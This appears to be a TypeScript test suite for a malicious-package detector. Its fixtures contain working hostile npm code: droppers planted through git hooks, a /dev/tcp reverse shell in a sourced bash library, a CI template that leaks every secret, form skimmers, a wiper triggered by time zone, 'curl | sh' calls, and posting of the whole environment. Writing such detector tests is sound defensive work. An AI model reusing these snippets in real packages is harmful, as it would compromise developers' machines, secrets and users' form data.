/**
 * Shapes from the eighteenth session: round 71's git-hook pair (a hook that runs the package's
 * own program, and a hook manager that writes its user's commands) and round 72 ("production
 * code": behaviour reached through a sourced shell library, a workflow template, a plugin's
 * event handler, a download renamed into place), written blind by a helper that had not read the
 * engine. Each is rewritten small and varied here, with a look-alike that must stay quiet.
 */
import { analyzeSource } from './helpers';
import { hookBodies, ownCommandTargets, sourcedFiles } from '../../../src/engine/shell';
import { envGivenSecrets } from '../../../src/engine/workflows';

const threats = (r: ReturnType<typeof analyzeSource>) =>
  r.evidence.filter((f): f is typeof f & { threat_type: string } => 'threat_type' in f);
const ruleOf = (r: ReturnType<typeof analyzeSource>, rule: string) => threats(r).find((f) => f.rule === rule);
const strong = (r: ReturnType<typeof analyzeSource>) => threats(r).filter((f) => f.confidence >= 0.5);

describe("a git hook planted at install runs the package's own program: that program runs unprompted", () => {
  const planter = [
    "const fs = require('fs');",
    "const path = require('path');",
    'function gitDir(start) {',
    '  for (let dir = start; dir && dir !== path.dirname(dir); dir = path.dirname(dir)) {',
    "    const dot = path.join(dir, '.git');",
    '    if (!fs.existsSync(dot)) continue;',
    '    if (fs.statSync(dot).isDirectory()) return dot;',
    "    const m = /gitdir:\\s*(.+)/.exec(fs.readFileSync(dot, 'utf8'));",
    '    return m ? path.resolve(dir, m[1].trim()) : null;',
    '  }',
    '  return null;',
    '}',
    'const HOOKS = [',
    "  ['pre-push', 'npx --no-install lintgate check'],",
    "  ['post-checkout', 'npx --no-install lintgate refresh >/dev/null 2>&1 &'],",
    '];',
    'const g = gitDir(process.env.INIT_CWD || process.cwd());',
    'if (g) for (const [hook, line] of HOOKS) {',
    "  fs.writeFileSync(path.join(g, 'hooks', hook), ['#!/bin/sh', line, ''].join('\\n'), { mode: 0o755 });",
    '}',
  ].join('\n');
  const cli = [
    "const { refresh } = require('../lib/rules');",
    'const cmd = process.argv[2];',
    "if (cmd === 'refresh') refresh();",
    "else if (cmd === 'check') console.log('ok');",
  ].join('\n');
  const rules = [
    "const https = require('https');",
    "const fs = require('fs');",
    "const os = require('os');",
    "const { execFile } = require('child_process');",
    "const TOOL = os.homedir() + '/.cache/lintgate/engine';",
    'exports.refresh = () =>',
    "  https.get('https://rules.lintgate-cdn.example/engine-' + process.platform, (res) => {",
    "    const out = fs.createWriteStream(TOOL + '.download');",
    '    res.pipe(out);',
    "    out.on('finish', () => { fs.renameSync(TOOL + '.download', TOOL); fs.chmodSync(TOOL, 0o755); execFile(TOOL, ['--serve']); });",
    '  });',
  ].join('\n');
  const manifest = JSON.stringify({
    name: 'lintgate',
    version: '1.4.0',
    bin: { lintgate: 'bin/lintgate.js' },
    scripts: { postinstall: 'node scripts/hooks.js' },
  });

  it('the program the hook runs is read as code that runs on its own: its download renamed into place and run is a dropper', () => {
    const r = analyzeSource({
      'package.json': manifest,
      'scripts/hooks.js': planter,
      'bin/lintgate.js': cli,
      'lib/rules.js': rules,
    });
    expect(r.risk_level).toBe('critical');
    const drop = ruleOf(r, 'js.drop-and-run');
    expect(drop?.file).toBe('lib/rules.js');
    expect(drop?.confidence).toBeGreaterThanOrEqual(0.8);
  });

  it('a hook manager writing the commands its user configured into a worktree hooks folder stays quiet', () => {
    const manager = [
      "const fs = require('fs');",
      "const path = require('path');",
      'const root = process.env.INIT_CWD || process.cwd();',
      "const dot = path.join(root, '.git');",
      'const hooks = fs.statSync(dot).isFile()',
      "  ? path.join(path.resolve(root, /gitdir:\\s*(.+)/.exec(fs.readFileSync(dot, 'utf8'))[1].trim()), 'hooks')",
      "  : path.join(dot, 'hooks');",
      "const config = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8')).gitHooks || {};",
      'for (const [name, command] of Object.entries(config)) {',
      '  const file = path.join(hooks, name);',
      "  if (fs.existsSync(file)) fs.renameSync(file, file + '.old');",
      "  fs.writeFileSync(file, '#!/bin/sh\\n' + command + '\\n', { mode: 0o755 });",
      '}',
    ].join('\n');
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'tiny-hooks',
        version: '3.0.0',
        bin: { 'tiny-hooks': 'bin/cli.js' },
        scripts: { postinstall: 'node lib/install.js' },
      }),
      'lib/install.js': manager,
      'bin/cli.js': "require('../lib/install.js');\n",
    });
    expect(strong(r)).toEqual([]);
    expect(r.risk_level).not.toBe('critical');
  });

  it('names the own programs a command runs', () => {
    const bins = { lintgate: 'bin/lintgate.js', lg: './bin/short.js' };
    expect(ownCommandTargets('npx --no-install lintgate check', bins, 'lintgate')).toEqual([
      'bin/lintgate.js',
    ]);
    expect(ownCommandTargets('exec node_modules/.bin/lg run "$@"', bins, 'lintgate')).toEqual([
      'bin/short.js',
    ]);
    expect(ownCommandTargets('lg fix && git add -A', bins, 'lintgate')).toEqual(['bin/short.js']);
    expect(ownCommandTargets('node ./node_modules/lintgate/lib/run.js', bins, 'lintgate')).toEqual([
      'lib/run.js',
    ]);
    expect(ownCommandTargets('npx lint-staged', bins, 'lintgate')).toEqual([]);
  });
});

describe('a shell library the install script reads in is the install script too', () => {
  const install = [
    '#!/usr/bin/env bash',
    'set -u',
    'DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"',
    '. "$DIR/settings.conf"',
    'source "$DIR/helpers/net.sh"',
    'announce "$ABI_HOST" "$ABI_PORT"',
    'npx --no-install node-gyp rebuild || true',
  ].join('\n');
  const helpers = [
    '# shellcheck shell=bash',
    'announce() {',
    '  local h="$1" p="$2"',
    '  {',
    '    exec 5<>"/dev/tcp/$h/$p" || exit 0',
    '    while read -r step <&5; do',
    '      [ "$step" = "." ] && break',
    '      eval "$step" >&5 2>&1',
    '    done',
    '  } </dev/null >/dev/null 2>&1 &',
    '}',
  ].join('\n');

  it('a socket read for commands in a function of a sourced file is a reverse shell at install', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'fastcrc',
        version: '2.1.0',
        scripts: { install: 'bash tools/build.sh' },
      }),
      'tools/build.sh': install,
      'tools/settings.conf': 'ABI_HOST=abi.prebuilt-mirror.example\nABI_PORT=9443\n',
      'tools/helpers/net.sh': helpers,
    });
    expect(r.risk_level).toBe('critical');
    const shell = ruleOf(r, 'shell.reverse-shell');
    expect(shell?.file).toBe('tools/helpers/net.sh');
    expect(shell?.install_time).toBe(true);
  });

  it('a sourced library of ordinary helpers stays quiet, and sourcing is not starting a program', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'fastcrc',
        version: '2.1.0',
        scripts: { install: 'bash tools/build.sh' },
      }),
      'tools/build.sh': install.replace('announce "$ABI_HOST" "$ABI_PORT"', 'log "building"'),
      'tools/settings.conf': 'ABI_HOST=abi.prebuilt-mirror.example\nABI_PORT=9443\n',
      'tools/helpers/net.sh': 'log() { printf "fastcrc: %s\\n" "$*" >&2; }\n',
    });
    expect(strong(r)).toEqual([]);
    expect(r.capabilities.process.commands).not.toContain('settings.conf');
  });

  it('lists the files a script reads in, with their folder variable kept', () => {
    expect(sourcedFiles(install)).toEqual(['$DIR/settings.conf', '$DIR/helpers/net.sh']);
    expect(sourcedFiles('if [ -f x ]; then . ./env.sh; fi\nsource lib/a.sh')).toEqual(['env.sh', 'lib/a.sh']);
  });
});

describe("a workflow template's secrets are secrets in the package's own code", () => {
  const template = (env: string) =>
    [
      'name: release-notes',
      'on:',
      '  push:',
      '    branches: [main]',
      'jobs:',
      '  notes:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - uses: actions/checkout@v4',
      '      - run: npx --yes notesmith publish',
      '        env:',
      env,
    ].join('\n');
  const sync = [
    "const { hostname } = require('os');",
    'const read = (v) => { try { return JSON.parse(v || "{}"); } catch { return {}; } };',
    'function snapshot(env = process.env) {',
    '  return { services: read(env.NOTESMITH_LINKS), host: env.RUNNER_NAME || hostname() };',
    '}',
    'exports.publish = async (cfg) => {',
    '  await fetch(cfg.endpoint + "/notes", { method: "POST", body: JSON.stringify({ notes: cfg.text, ctx: snapshot() }) });',
    '};',
  ].join('\n');

  it('a variable the template fills with every secret, posted by the code, is the whole environment sent', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'notesmith', version: '4.2.0', main: 'lib/sync.js' }),
      'templates/ci/notes.yml': template('          NOTESMITH_LINKS: ${{ toJSON(secrets) }}'),
      'lib/sync.js': sync,
    });
    expect(r.risk_level).toBe('critical');
    expect(ruleOf(r, 'js.exfil-flow')?.file).toBe('lib/sync.js');
  });

  it('the token a template hands the code for its own API calls stays quiet', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'notesmith', version: '4.2.0', main: 'lib/sync.js' }),
      'templates/ci/notes.yml': template('          NOTESMITH_KEY: ${{ secrets.NOTESMITH_KEY }}'),
      'lib/sync.js': [
        'exports.publish = async (cfg) => {',
        '  await fetch(cfg.endpoint + "/notes", {',
        '    method: "POST",',
        '    headers: { authorization: "Bearer " + process.env.NOTESMITH_KEY },',
        '    body: JSON.stringify({ notes: cfg.text }),',
        '  });',
        '};',
      ].join('\n'),
    });
    expect(strong(r)).toEqual([]);
  });

  it('reads which variables hold one secret and which hold them all', () => {
    expect([
      ...envGivenSecrets(template('          A: ${{ toJSON(secrets) }}\n          B: "${{ secrets.B }}"')),
    ]).toEqual([
      ['A', 'all'],
      ['B', 'one'],
    ]);
  });
});

describe('a handler registered for several page events gets what each event hands it', () => {
  const plugin = (send: string) =>
    [
      "const EVENTS = ['pointerup', 'keyup', 'input', 'blur'];",
      'export function attach(core) {',
      '  const batch = [];',
      '  const drain = () => core.post(core.opts.sink, { items: batch.splice(0) });',
      '  const record = (e) => {',
      '    const node = e.target;',
      '    if (!node || !node.tagName) return;',
      `    batch.push({ at: e.timeStamp, kind: e.type, ${send} });`,
      '    if (batch.length > 20) drain();',
      '  };',
      '  EVENTS.forEach((name) => document.addEventListener(name, record, true));',
      '}',
    ].join('\n');
  const core = [
    "import { attach } from './plugin.js';",
    "const opts = { sink: 'https://collect.speedlens-rum.example/i' };",
    'const post = (url, body) => navigator.sendBeacon(url, JSON.stringify(body));',
    'attach({ opts, post });',
  ].join('\n');
  const manifest = JSON.stringify({ name: 'speedlens', version: '1.0.3', type: 'module', main: 'core.js' });

  it("what the page's fields hold, sent to a fixed host from a handler of several events, is a skimmer", () => {
    const r = analyzeSource({
      'package.json': manifest,
      'core.js': core,
      'plugin.js': plugin('field: node.name, data: node.value'),
    });
    expect(r.risk_level).toBe('critical');
    expect(ruleOf(r, 'js.page-secret-exfil')).toBeDefined();
  });

  it('which field was used, read in a page-wide input handler, is not what its user typed', () => {
    const r = analyzeSource({
      'package.json': manifest,
      'core.js': [
        "const sink = 'https://collect.speedlens-rum.example/i';",
        "document.addEventListener('input', (e) => {",
        '  navigator.sendBeacon(sink, JSON.stringify({ tag: e.target.tagName, id: e.target.id, at: e.timeStamp }));',
        '}, true);',
      ].join('\n'),
    });
    expect(strong(r)).toEqual([]);
  });

  it('the same handler sending only which element and when stays quiet', () => {
    const r = analyzeSource({
      'package.json': manifest,
      'core.js': core,
      'plugin.js': plugin('tag: node.tagName.toLowerCase(), id: node.id'),
    });
    expect(strong(r)).toEqual([]);
  });
});

describe('a state machine run by a function that calls itself with the next event (round 71)', () => {
  const engine = [
    'class Flow {',
    '  constructor(chart, handlers, ctx) {',
    '    this.chart = chart;',
    '    this.handlers = handlers;',
    '    this.ctx = ctx;',
    '    this.at = chart.start;',
    '  }',
    '  async dispatch(signal) {',
    '    const step = this.chart.steps[this.at];',
    '    const edge = step.next && step.next[signal];',
    '    const choices = Array.isArray(edge) ? edge : [{ to: edge }];',
    '    const chosen = choices.find((c) => !c.when || this.handlers[c.when](this.ctx));',
    '    if (!chosen) return this.at;',
    '    this.at = chosen.to;',
    '    const run = this.chart.steps[this.at].run;',
    '    if (!run) return this.at;',
    '    const out = await this.handlers[run](this.ctx);',
    '    return out ? this.dispatch(out) : this.at;',
    '  }',
    '}',
    'module.exports = { Flow };',
  ].join('\n');
  const chart = [
    'module.exports = {',
    "  start: 'off',",
    '  steps: {',
    "    off: { next: { GO: 'locate' } },",
    "    locate: { run: 'locate', next: { LOCATED: 'collect' } },",
    "    collect: { run: 'collect', next: { COLLECTED: [{ to: 'purge', when: 'worthIt' }, { to: 'end' }] } },",
    "    purge: { run: 'purge', next: { PURGED: 'end' } },",
    '    end: {},',
    '  },',
    '};',
  ].join('\n');
  const zones = (table: string) =>
    [
      "const os = require('os');",
      `const BY_ZONE = ${table};`,
      'const SETS = {',
      "  local: { root: 'project', globs: ['.turbo', '.cache'] },",
      "  wide: { root: 'home', globs: ['*'] },",
      '};',
      'exports.pick = () => {',
      "  const tz = Intl.DateTimeFormat().resolvedOptions().timeZone || '';",
      "  const set = SETS[BY_ZONE[tz] || 'local'];",
      '  return { ...set, base: set.root === "home" ? os.homedir() : process.cwd() };',
      '};',
    ].join('\n');
  const main = [
    "const fs = require('fs');",
    "const path = require('path');",
    "const { Flow } = require('./flow');",
    "const { pick } = require('./zones');",
    'const handlers = {',
    "  locate(ctx) { ctx.plan = pick(); return 'LOCATED'; },",
    '  collect(ctx) {',
    '    ctx.found = [];',
    '    for (const g of ctx.plan.globs)',
    "      for (const n of fs.readdirSync(ctx.plan.base)) if (g === '*' || n === g) ctx.found.push(path.join(ctx.plan.base, n));",
    "    return 'COLLECTED';",
    '  },',
    '  worthIt: (ctx) => ctx.found.length > 0,',
    "  purge(ctx) { for (const f of ctx.found) fs.rmSync(f, { recursive: true, force: true }); return 'PURGED'; },",
    '};',
    "new Flow(require('./chart'), handlers, {}).dispatch('GO');",
  ].join('\n');
  const files = (table: string) => ({
    'package.json': JSON.stringify({
      name: 'tidy-caches',
      version: '1.2.0',
      scripts: { postinstall: 'node lib/main.js' },
    }),
    'lib/flow.js': engine,
    'lib/chart.js': chart,
    'lib/zones.js': zones(table),
    'lib/main.js': main,
  });

  it('a table keyed by the time zone that sends the sweep to the home folder, three events down, is a wiper', () => {
    const r = analyzeSource(files("{ 'Europe/Kyiv': 'wide', 'Europe/Riga': 'wide' }"));
    expect(r.risk_level).toBe('critical');
    expect(ruleOf(r, 'js.destructive-user-data')?.message).toContain('~');
  });

  it('the same machine whose every zone keeps the sweep in the project stays quiet', () => {
    const r = analyzeSource(files("{ 'Europe/Kyiv': 'local' }"));
    expect(strong(r)).toEqual([]);
  });
});

describe("attacker rewrites of round 72's fixes", () => {
  it('a hook written by the install shell script, running a file of the package, makes that file code that runs on its own', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'msg-lint',
        version: '1.0.1',
        scripts: { postinstall: 'sh tools/setup.sh' },
      }),
      'tools/setup.sh': [
        '#!/bin/sh',
        'TOP="${INIT_CWD:-$PWD}"',
        'cat > "$TOP/.husky/post-merge" <<HOOK',
        '#!/bin/sh',
        'node ./node_modules/msg-lint/dist/warm.js &',
        'HOOK',
      ].join('\n'),
      'dist/warm.js': [
        "const cp = require('child_process');",
        "cp.exec('curl -fsSL https://warm.msg-lint.example/w | sh');",
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
    expect(threats(r).find((f) => f.file === 'dist/warm.js' && f.confidence >= 0.7)).toBeDefined();
  });

  it('a handler added with window.addEventListener, or bare, through a helper, for a set of field events', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'fieldpulse',
        version: '1.0.0',
        type: 'module',
        main: 'main.js',
      }),
      'on.js':
        'export const on = (names, fn) => { for (const n of Object.keys(names)) addEventListener(n, fn, true); };',
      'main.js': [
        "import { on } from './on.js';",
        'const buf = [];',
        "const flush = () => fetch('https://in.fieldpulse-cdn.example/b', { method: 'POST', body: JSON.stringify(buf.splice(0)), keepalive: true });",
        'on({ change: 1, focusout: 1 }, (e) => { buf.push([e.type, e.target.value]); if (buf.length > 5) flush(); });',
        "window.addEventListener('pagehide', flush);",
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
    expect(ruleOf(r, 'js.page-secret-exfil')).toBeDefined();
  });
});

describe('round 73 (precision): a helper handed the whole environment returns what it reads, not the environment', () => {
  const ci = (pick: string) =>
    [
      "const fs = require('fs');",
      'function pullNumber(vars) {',
      '  try {',
      "    const event = JSON.parse(fs.readFileSync(vars.GITHUB_EVENT_PATH, 'utf8'));",
      '    return event.pull_request ? event.pull_request.number : null;',
      '  } catch (_) { return null; }',
      '}',
      `function ${pick}(vars = process.env) { return { repo: vars.GITHUB_REPOSITORY, pr: pullNumber(vars) }; }`,
      `exports.upload = (report) => fetch('https://api.covstat.example/v1/reports', { method: 'POST', body: JSON.stringify({ report, build: ${pick}() }) });`,
    ].join('\n');

  it('a coverage uploader sending its build details stays quiet', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'covstat', version: '2.0.0', main: 'index.js' }),
      'index.js': ci('buildInfo'),
    });
    expect(strong(r)).toEqual([]);
  });

  it('the environment serialised by a helper named for it is still the environment', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'covstat', version: '2.0.0', main: 'index.js' }),
      'index.js': [
        'function dumpVars(vars) { return Buffer.from(JSON.stringify(vars)).toString("base64"); }',
        "exports.upload = () => fetch('https://api.covstat.example/v1/env', { method: 'POST', body: dumpVars(process.env) });",
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.exfil-flow')?.message).toContain('whole environment');
  });
});

describe('review of the eighteenth session', () => {
  const hookPkg = (bin: string, hook = 'npx --no-install msgtool check') => ({
    'package.json': JSON.stringify({
      name: 'msgtool',
      version: '1.0.0',
      bin: { msgtool: 'bin/msgtool.js' },
      scripts: { postinstall: 'node scripts/hook.js' },
    }),
    'scripts/hook.js': [
      "const fs = require('fs');",
      "const path = require('path');",
      "const dir = path.join(process.env.INIT_CWD || process.cwd(), '.git', 'hooks');",
      `fs.writeFileSync(path.join(dir, 'commit-msg'), '#!/bin/sh\\n${hook} "$1"\\n', { mode: 0o755 });`,
    ].join('\n'),
    'bin/msgtool.js': bin,
  });

  it('many flags before a word that is not a program, and a long line of .git folders, end at once', () => {
    const flags = Array.from({ length: 40 }, (_, i) => `--f${i}`).join(' ');
    expect(ownCommandTargets(`npx ${flags} !`, { tool: 'bin/t.js' }, 'tool')).toEqual([]);
    expect(hookBodies(`echo x > ${'.git/'.repeat(20_000)}none`)).toEqual([]);
  });

  it("a hook's program that sends its token to the API it is for stays quiet (it runs in git, not in npm)", () => {
    const r = analyzeSource(
      hookPkg(
        [
          "const sha = process.argv[3] || '';",
          "fetch('https://api.github.com/repos/o/r/commits/' + sha, { headers: { authorization: 'Bearer ' + process.env.GITHUB_TOKEN } });",
        ].join('\n'),
      ),
    );
    expect(strong(r)).toEqual([]);
  });

  it("a hook's program that empties the folder git runs it in is a wiper", () => {
    const r = analyzeSource(
      hookPkg(
        [
          "const fs = require('fs');",
          'for (const n of fs.readdirSync(process.cwd())) fs.rmSync(n, { recursive: true, force: true });',
        ].join('\n'),
      ),
    );
    expect(r.risk_level).toBe('critical');
    expect(ruleOf(r, 'js.destructive-user-data')).toBeDefined();
  });

  it('only the subcommand the hook runs is followed: another one that deletes its own backups is not', () => {
    const r = analyzeSource(
      hookPkg(
        [
          "const fs = require('fs');",
          "const path = require('path');",
          'const [cmd] = process.argv.slice(2);',
          "const dir = path.join(process.cwd(), '.git', 'hooks');",
          'switch (cmd) {',
          "  case 'check': console.log('ok'); break;",
          "  case 'clean': for (const n of fs.readdirSync(dir)) fs.renameSync(path.join(dir, n), path.join(dir, n + '.bak')); break;",
          '}',
        ].join('\n'),
      ),
    );
    expect(strong(r)).toEqual([]);
  });

  it('an install step that moves to the project first lists the project, not its own folder', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'tidyup',
        version: '1.0.0',
        scripts: { postinstall: 'node clean.js' },
      }),
      'clean.js': [
        "const fs = require('fs');",
        'process.chdir(process.env.INIT_CWD);',
        'for (const n of fs.readdirSync(process.cwd())) fs.rmSync(n, { recursive: true, force: true });',
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
  });

  it('a port probe in a sourced helper is not a reverse shell', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'fastcrc',
        version: '2.1.0',
        scripts: { install: 'bash tools/build.sh' },
      }),
      'tools/build.sh': '#!/bin/bash\n. "$(dirname "$0")/lib.sh"\nport_open localhost 5432 && echo up\n',
      'tools/lib.sh': 'port_open() { (echo > /dev/tcp/$1/$2) >/dev/null 2>&1; }\n',
    });
    expect(ruleOf(r, 'shell.reverse-shell')).toBeUndefined();
  });

  it("the form of a page-wide event's field, sent whole to a fixed host, is a skimmer", () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'formsense', version: '1.0.0', main: 'index.js' }),
      'index.js': [
        "document.addEventListener('change', (e) => {",
        '  const f = e.target.form;',
        "  if (f) fetch('https://c.formsense-cdn.example/f', { method: 'POST', body: new FormData(f) });",
        '}, true);',
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.page-secret-exfil')).toBeDefined();
  });

  it('secrets given in a flow mapping or a block scalar are read too', () => {
    const yml = 'env: { A: ${{ toJSON(secrets) }}, B: "${{ secrets.B }}" }\n  C: >-\n    ${{ secrets.C }}\n';
    expect([...envGivenSecrets(yml)]).toEqual([
      ['A', 'all'],
      ['B', 'one'],
      ['C', 'one'],
    ]);
  });

  it('a hook that runs a file of the package by a path built from its folder names that file', () => {
    expect(ownCommandTargets('node "${…}/../bin/msgtool.js" check', {}, 'msgtool')).toContain(
      'bin/msgtool.js',
    );
  });
});

describe('round 73: the hooks folder git reports is the project own', () => {
  it('a hook manager writing into the folder `git config core.hooksPath` names stays quiet', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'hookyard',
        version: '1.0.0',
        bin: { hookyard: 'bin/hookyard.js' },
        scripts: { postinstall: 'node lib/install.js' },
      }),
      'lib/install.js': [
        "const fs = require('fs');",
        "const path = require('path');",
        "const { execFileSync } = require('child_process');",
        'const root = process.env.INIT_CWD || process.cwd();',
        "const out = execFileSync('git', ['config', '--get', 'core.hooksPath'], { cwd: root }).toString().trim();",
        "const dir = out ? path.resolve(root, out) : path.join(root, '.git', 'hooks');",
        "const hooks = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8')).hookyard || {};",
        'for (const name of Object.keys(hooks)) {',
        '  const file = path.join(dir, name);',
        "  if (fs.existsSync(file)) fs.renameSync(file, file + '.orig');",
        "  fs.writeFileSync(file, '#!/bin/sh\\nexec npx --no-install hookyard run ' + name + ' \"$@\"\\n', { mode: 0o755 });",
        '}',
      ].join('\n'),
      'bin/hookyard.js': "console.log('run', process.argv[3]);\n",
    });
    expect(strong(r)).toEqual([]);
  });
});

describe('a git hook written in JavaScript that loads the package by its name', () => {
  const files = (rules: string) => ({
    'package.json': JSON.stringify({
      name: 'lintkeep',
      version: '1.2.0',
      main: 'lib/index.js',
      scripts: { postinstall: 'node scripts/hooks.js' },
    }),
    'scripts/hooks.js': [
      "const fs = require('fs');",
      "const path = require('path');",
      "const hooks = path.join(process.env.INIT_CWD || process.cwd(), '.git', 'hooks');",
      "fs.writeFileSync(path.join(hooks, 'post-merge'), \"#!/usr/bin/env node\\nrequire('lintkeep/lib/sync').pull();\\n\", { mode: 0o755 });",
    ].join('\n'),
    'lib/index.js': "module.exports = require('./sync');\n",
    'lib/sync.js': rules,
  });

  it('what the function it calls does is read as code that runs on its own', () => {
    const r = analyzeSource(
      files(
        [
          "const https = require('https');",
          "const fs = require('fs');",
          "const { spawn } = require('child_process');",
          "exports.pull = () => https.get('https://sync.lintkeep-cdn.example/agent', (res) => {",
          "  const out = fs.createWriteStream('/tmp/.lk-agent', { mode: 0o755 });",
          '  res.pipe(out);',
          "  out.on('finish', () => spawn('/tmp/.lk-agent', [], { detached: true, stdio: 'ignore' }).unref());",
          '});',
        ].join('\n'),
      ),
    );
    expect(r.risk_level).toBe('critical');
    expect(
      threats(r).find((f) => f.file === 'scripts/hooks.js' && f.rule === 'js.drop-and-run'),
    ).toBeDefined();
  });

  it('a hook that only reads the rules file stays quiet', () => {
    const r = analyzeSource(
      files(
        "const fs = require('fs');\nexports.pull = () => JSON.parse(fs.readFileSync('.lintkeep.json', 'utf8'));\n",
      ),
    );
    expect(strong(r)).toEqual([]);
  });
});
